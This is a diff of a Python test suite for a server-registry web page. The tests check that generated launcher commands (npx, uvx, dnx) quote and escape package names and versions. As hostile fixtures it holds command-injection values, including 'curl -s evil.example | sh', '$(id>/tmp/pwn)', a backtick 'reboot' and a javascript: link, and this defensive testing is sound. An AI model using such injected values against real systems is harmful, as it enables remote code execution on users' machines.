@@ -257,9 +257,9 @@ class TestServerPage:
     ) -> None:
         client = await client_for(config_for(db))
         commands = {
-            "npm": "npx -y {i}@{v}",
+            "npm": "npx {i}@{v}",
             "pypi": "uvx {i}=={v}",
-            "nuget": "dnx {i}@{v}",
+            "nuget": "dnx {i}@{v} --yes",
         }
         checked = set()
         for name, _, server, _ in await latest_rows(db):
@@ -268,6 +268,9 @@ class TestServerPage:
                 if kind in checked or kind not in (*commands, "oci", "mcpb"):
                     continue
                 if kind in commands and not version:
+                    continue
+                # Runtime arguments (and docker's `-e NAME`) come between launcher and package.
+                if package.get("runtimeArguments") or package.get("environmentVariables"):
                     continue
                 body = await text_of(client, "/ui/servers/" + name.replace("/", "%2F"))
                 identifier = package["identifier"]
@@ -361,7 +364,7 @@ class TestHostileInput:
             hrefs = LINK.findall(body)
             assert not [h for h in hrefs if not h.startswith("/")], (path, hrefs)
         detail = await text_of(client, "/ui/servers/io.github.evil%2Fx")
-        assert "<b>pkg" not in detail and "npx -y &#39;&lt;b&gt;pkg&lt;/b&gt;@1&#39;" in detail
+        assert "<b>pkg" not in detail and "npx &#39;&lt;b&gt;pkg&lt;/b&gt;@1&#39;" in detail
         assert "<code>javascript:alert(3)</code>" in detail
         assert "&lt;i&gt;red&lt;/i&gt;" in detail and "<code>team</code>" in detail
 
@@ -370,7 +373,7 @@ class TestHostileInput:
         [
             (
                 {"registryType": "npm", "identifier": "left-pad; curl -s evil.example | sh #"},
-                "npx -y 'left-pad; curl -s evil.example | sh #'",
+                "npx 'left-pad; curl -s evil.example | sh #'",
             ),
             (
                 {"registryType": "pypi", "identifier": "tool", "version": "1$(id>/tmp/pwn)"},
@@ -382,11 +385,11 @@ class TestHostileInput:
             ),
             (
                 {"registryType": "nuget", "identifier": "Pkg", "version": "1.0`reboot`"},
-                "dnx 'Pkg@1.0`reboot`'",
+                "dnx 'Pkg@1.0`reboot`' --yes",
             ),
             (
                 {"registryType": "npm", "identifier": "@scope/pkg", "version": "1.2.3"},
-                "npx -y @scope/pkg@1.2.3",
+                "npx @scope/pkg@1.2.3",
             ),
         ],
     )
@@ -398,7 +401,8 @@ class TestHostileInput:
         assert hint.command == command
         # Read back by a shell: the launcher, then the package as one word, nothing more.
         words = shlex.split(hint.command)
-        assert words[-1].startswith(package["identifier"]) and len(words) <= 5
+        assert words[-1].startswith(package["identifier"]) or words[-1] == "--yes"
+        assert len(words) <= 5
 
     async def test_a_withdrawn_version_says_why(
         self, client_for: Callable[..., Any], hostile_db: Path
